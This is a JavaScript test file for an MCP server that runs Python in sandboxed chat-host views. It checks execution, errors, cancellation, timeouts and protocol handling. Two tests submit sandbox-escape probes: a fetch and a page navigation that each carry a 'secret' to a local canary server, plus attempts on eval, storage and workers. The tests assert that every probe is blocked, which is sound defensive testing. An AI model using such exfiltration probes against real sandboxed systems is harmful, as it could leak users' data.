// @ts-check
// Sandpit's local MCP server with a chat host that shows MCP App views (the
// test double of mcp-app-harness.mjs: ext-apps' AppBridge, the official MCP
// SDK client over Streamable HTTP to the real server, a sandbox proxy on
// another origin) and the real built app's widget inside each view.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import { startCanary } from "./canary.mjs";
import { DIST } from "./harness.mjs";
import { launchChromium } from "./harness/browser.mjs";
import { RED_SQUARE_CLASS } from "./harness/python.mjs";
import { RUN_TIMEOUT_MS } from "./harness/timeouts.mjs";
import { MODERN_REVISION, openHost, serveChatHost, startHttpServer } from "./mcp-app-harness.mjs";

/** @type {Awaited<ReturnType<typeof startHttpServer>>} */
let server;
/** @type {Awaited<ReturnType<typeof serveChatHost>>} */
let site;
/** @type {import("playwright-core").Browser} */
let browser;

before(async () => {
  server = await startHttpServer({ args: ["--dist", DIST] });
  site = await serveChatHost();
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await site?.close();
  await server?.stop();
});

/** @param {import("playwright-core").Page} page */
const viewFrame = (page) => page.frames().find((frame) => frame.url() === "about:srcdoc");
/** @param {import("playwright-core").Page} page */
const widgetFrame = (page) => page.frames().find((frame) => frame.url().includes("/widget.html"));

describe("a chat host that shows MCP App views, framed allow-scripts allow-same-origin", () => {
  const SANDBOX = "allow-scripts allow-same-origin";

  test("runs the code in the view on another origin and hands the client the result", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const code = `${RED_SQUARE_CLASS}\nprint('hello from the view')\ndisplay(RedSquare())\n6 * 7`;
      const outcome = await host.call("run_python", { code, session: "s1" }, SANDBOX);
      assert.equal(outcome.error, undefined, outcome.error);
      const { result } = outcome;
      assert.equal(outcome.mimeType, "text/html;profile=mcp-app");
      assert.deepEqual(outcome.csp.connectDomains, [], "the view itself connects nowhere");
      assert.deepEqual(outcome.csp.frameDomains, [new URL(server.url).origin]);
      assert.equal(result.isError, false, JSON.stringify(result.content));
      assert.equal(result.structuredContent.status, "ok");
      assert.equal(result.structuredContent.stdout, "hello from the view\n");
      assert.equal(result.structuredContent.value.repr, "42");
      assert.match(result.structuredContent.displays[0]["image/png"], /^iVBORw0KGgo/);
      assert.match(result.content[0].text, /--- stdout ---\nhello from the view/);
      // The output reached the client while the code ran, in progress notifications.
      assert.deepEqual(
        outcome.progress.map((/** @type {any} */ update) => [update._meta?.["sandpit/stream"], update.message]),
        [["stdout", "hello from the view\n"]],
      );
      const image = result.content.find((/** @type {any} */ block) => block.type === "image");
      assert.equal(image?.mimeType, "image/png");

      const view = viewFrame(host.page);
      assert.ok(view, "the view is framed");
      const origin = await view.evaluate(() => self.origin);
      assert.equal(origin, new URL(site.proxyUrl).origin, "the view has the sandbox origin");
      assert.notEqual(origin, new URL(site.hostUrl).origin);
      await view.locator('[data-testid="view-output"]', { hasText: "hello from the view" }).waitFor();
      await view.locator('[data-testid="view-figures"] img').waitFor();
      assert.deepEqual(host.errors, []);
    } finally {
      await host.close();
    }
  });

  test("an error comes back with its line, and the session's state carries over to the next view", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const first = await host.call("run_python", { code: "kept = 5", session: "s2" }, SANDBOX);
      assert.equal(first.result?.structuredContent?.status, "ok", JSON.stringify(first));
      const outcome = await host.call("run_python", { code: "x = kept\nundefined_name + x", session: "s2" }, SANDBOX);
      const { result } = outcome;
      assert.equal(result.isError, true);
      assert.equal(result.structuredContent.status, "error");
      assert.equal(result.structuredContent.error.type, "NameError");
      assert.equal(result.structuredContent.error.line, 2, "the error's line, after the replayed run set `kept`");
      assert.deepEqual(result.structuredContent.restored, { replayed: 1, lost: [], before_run: true }, "the view's interpreter was rebuilt first");
      assert.match(result.content[0].text, /NameError/);
      const views = host.page.frames().filter((frame) => frame.url() === "about:srcdoc");
      await views.at(-1)?.locator('[data-testid="view-error"]', { hasText: "NameError" }).waitFor();
    } finally {
      await host.close();
    }
  });

  test("cancel from the client stops the run in the view", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const code = "import time\nfor i in range(600):\n    print('tick', i, flush=True)\n    time.sleep(0.1)";
      const { proxyUrl } = site;
      await host.page.evaluate(
        ({ code, proxyUrl, sandbox }) => {
          /** @type {any} */ (window).host.call("run_python", { code, session: "s3" }, { proxyUrl, sandbox });
        },
        { code, proxyUrl, sandbox: SANDBOX },
      );
      await host.page.waitForFunction(() => /** @type {any} */ (window).host.cancel !== undefined);
      // Running: the widget's run list shows it.
      const running = async () => {
        const widget = widgetFrame(host.page);
        return widget !== undefined && (await widget.locator('[data-testid="run-entry"][data-phase="running"]').count()) > 0;
      };
      while (!(await running())) await host.page.waitForTimeout(100);
      await host.page.evaluate(() => /** @type {any} */ (window).host.cancel());
      const outcome = await host.page.evaluate(() => /** @type {any} */ (window).host.pending);
      assert.ok(outcome.error, "the client's call ends as cancelled");
      const widget = /** @type {import("playwright-core").Frame} */ (widgetFrame(host.page));
      await widget.locator('[data-testid="run-entry"][data-phase="cancelled"]').waitFor({ state: "attached" });
    } finally {
      await host.close();
    }
  });
});

describe("Python in a view", () => {
  test("reaches no network and no storage", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const canary = await startCanary();
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const code = [
        "import js",
        "found = {}",
        "try:",
        `    await js.fetch('${canary.origin}/from-the-view?secret=1')`,
        "    found['fetch'] = 'reached'",
        "except Exception as error:",
        "    found['fetch'] = type(error).__name__",
        "for name in ('indexedDB', 'caches', 'postMessage', 'Worker'):",
        "    found[name] = hasattr(js, name)",
        "try:",
        "    js.eval('1')",
        "    found['eval'] = 'ran'",
        "except Exception as error:",
        "    found['eval'] = type(error).__name__",
        "found",
      ].join("\n");
      const { result } = await host.call("run_python", { code }, "allow-scripts allow-same-origin");
      assert.equal(result.structuredContent.status, "ok", JSON.stringify(result.content));
      const found = result.structuredContent.value.json;
      assert.notEqual(found.fetch, "reached");
      assert.deepEqual(
        { indexedDB: found.indexedDB, caches: found.caches, postMessage: found.postMessage, Worker: found.Worker },
        { indexedDB: false, caches: false, postMessage: false, Worker: false },
      );
      assert.notEqual(found.eval, "ran");
      assert.ok(
        result.structuredContent.blocked.some((/** @type {any} */ b) => b.directive === "connect-src"),
        "the worker's CSP refused the fetch",
      );
      assert.deepEqual(canary.requests, [], "nothing reached the canary");
    } finally {
      await host.close();
      await canary.close();
    }
  });
});

describe("a chat host that frames views allow-scripts only (an opaque origin)", () => {
  const SANDBOX = "allow-scripts";

  test("runs the code on the view's own thread, says what that costs, and a timeout replaces the interpreter", { timeout: RUN_TIMEOUT_MS * 4 }, async () => {
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const code = `${RED_SQUARE_CLASS}\nprint('on the view thread')\ndisplay(RedSquare())\nkept = 6 * 7\nkept`;
      const outcome = await host.call("run_python", { code, session: "t1" }, SANDBOX);
      assert.equal(outcome.error, undefined, outcome.error);
      const { result } = outcome;
      assert.equal(result.isError, false, JSON.stringify(result.content));
      assert.equal(result.structuredContent.stdout, "on the view thread\n");
      assert.equal(result.structuredContent.value.repr, "42");
      assert.match(result.structuredContent.displays[0]["image/png"], /^iVBORw0KGgo/);
      assert.match(result.content.at(-1).text, /^Note: Python ran on the view's own thread .* cannot be interrupted: a run that reaches its timeout ends the view's interpreter/);
      const view = /** @type {import("playwright-core").Frame} */ (viewFrame(host.page));
      assert.equal(await view.evaluate(() => self.origin), "null");
      const widget = /** @type {import("playwright-core").Frame} */ (widgetFrame(host.page));
      await widget.getByTestId("thread-mode").waitFor({ state: "attached" });
      const python = host.page.frames().find((frame) => frame.url().endsWith("/pyodide-loader/thread.html"));
      assert.ok(python, "Python's frame, on the widget's page");
      assert.equal(await python.evaluate(() => self.origin), "null");

      // A run that never pauses is stopped at its timeout; the view stays
      // usable, and the session comes back by replay.
      const stuck = await host.call("run_python", { code: "while True:\n    pass", session: "t1", timeout_seconds: 2 }, SANDBOX);
      assert.equal(stuck.result?.structuredContent?.status, "timeout", JSON.stringify(stuck));
      const after = await host.call("run_python", { code: "kept + 1", session: "t1" }, SANDBOX);
      assert.equal(after.result?.structuredContent?.value?.repr, "43", JSON.stringify(after.result?.content));
      assert.deepEqual(host.errors, []);
    } finally {
      await host.close();
    }
  });

  test("Python on the view's thread reaches no network and no storage, and cannot navigate its frame away", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const canary = await startCanary();
    const host = await openHost(browser, site, server.mcpUrl);
    try {
      const code = [
        "import js",
        "found = {}",
        "try:",
        `    await js.fetch('${canary.origin}/from-the-thread?secret=1')`,
        "    found['fetch'] = 'reached'",
        "except Exception as error:",
        "    found['fetch'] = type(error).__name__",
        "for name in ('indexedDB', 'caches', 'postMessage', 'Worker', 'BroadcastChannel'):",
        "    found[name] = hasattr(js, name)",
        "try:",
        "    js.localStorage.setItem('k', 'v')",
        "    found['localStorage'] = 'written'",
        "except Exception as error:",
        "    found['localStorage'] = type(error).__name__",
        "try:",
        "    js.eval('1')",
        "    found['eval'] = 'ran'",
        "except Exception as error:",
        "    found['eval'] = type(error).__name__",
        "found",
      ].join("\n");
      const { result } = await host.call("run_python", { code, session: "t2" }, SANDBOX);
      assert.equal(result.structuredContent.status, "ok", JSON.stringify(result.content));
      const found = result.structuredContent.value.json;
      assert.notEqual(found.fetch, "reached");
      assert.deepEqual(
        { indexedDB: found.indexedDB, caches: found.caches, postMessage: found.postMessage, Worker: found.Worker, BroadcastChannel: found.BroadcastChannel },
        { indexedDB: false, caches: false, postMessage: false, Worker: false, BroadcastChannel: false },
      );
      assert.notEqual(found.localStorage, "written");
      assert.notEqual(found.eval, "ran");

      // Leaving with data in the address: the widget's page lets its frames
      // go nowhere else (the frame's page is replaced by the browser's error page).
      const away = `import js\njs.location.href = '${canary.origin}/navigated?secret=2'`;
      await host.call("run_python", { code: away, session: "t3", timeout_seconds: 3 }, SANDBOX);
      const next = await host.call("run_python", { code: "'still here'", session: "t4" }, SANDBOX);
      assert.equal(next.result?.structuredContent?.value?.repr, "'still here'", JSON.stringify(next));
      assert.deepEqual(canary.requests, [], "nothing reached the canary");
    } finally {
      await host.close();
      await canary.close();
    }
  });
});

describe("a chat host on protocol 2026-07-28", () => {
  test("runs the code in the view, with the output as progress and no session", { timeout: RUN_TIMEOUT_MS * 2 }, async () => {
    const host = await openHost(browser, site, server.mcpUrl, MODERN_REVISION);
    try {
      assert.equal(host.negotiated, MODERN_REVISION);
      assert.ok((await host.toolNames()).includes("sandpit_view_claim"), "the host declared the MCP Apps extension in each request");
      const outcome = await host.call("run_python", { code: "print('per request')\n2 + 2", session: "m1" }, "allow-scripts allow-same-origin");
      assert.equal(outcome.error, undefined, outcome.error);
      assert.equal(outcome.result.isError, false, JSON.stringify(outcome.result.content));
      assert.equal(outcome.result.structuredContent.value.repr, "4");
      assert.deepEqual(
        outcome.progress.map((/** @type {any} */ update) => [update._meta?.["sandpit/stream"], update.message]),
        [["stdout", "per request\n"]],
      );
      assert.deepEqual(host.errors, []);
    } finally {
      await host.close();
    }
  });
});
